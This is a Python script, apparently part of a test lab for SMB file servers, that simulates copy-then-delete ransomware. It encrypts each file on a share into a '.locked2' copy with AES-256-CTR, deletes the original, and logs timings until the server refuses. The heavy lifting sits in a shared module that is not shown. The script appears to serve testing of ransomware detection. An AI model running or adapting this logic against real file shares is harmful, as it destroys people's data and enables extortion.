#!/usr/bin/python3
"""Copy-then-delete ("outline") encryption over SMB3: each file read, an encrypted copy NAME.locked2 written
(the whole file, AES-256-CTR), then the original deleted; the original is never written to. No note.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
ATTACK_MAX_FILES (default: every file); ATTACK_ROOT (folder to start in, default the share root).

Output and reconnects as attacks/classic.py: start, one "encrypted FIRST_WRITE_MS DONE_MS PATH"
per file, "stopped MS REASON" when the server refuses, files_encrypted N. A file counts once its
original is deleted; FIRST_WRITE_MS is the first write of its copy.
"""

import os
import sys

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from smblab import Attack  # noqa: E402

SUFFIX = ".locked2"


class Outline(Attack):
	def skip(self, name):
		return name.endswith(SUFFIX)

	def damage(self, path):
		data = self.read(path)
		if not data:
			return None
		first = self.write_new(path + SUFFIX, self.cipher().encrypt(data))
		if first is None or not self.remove(path):
			return None
		return first


if __name__ == "__main__":
	sys.exit(Outline().run())
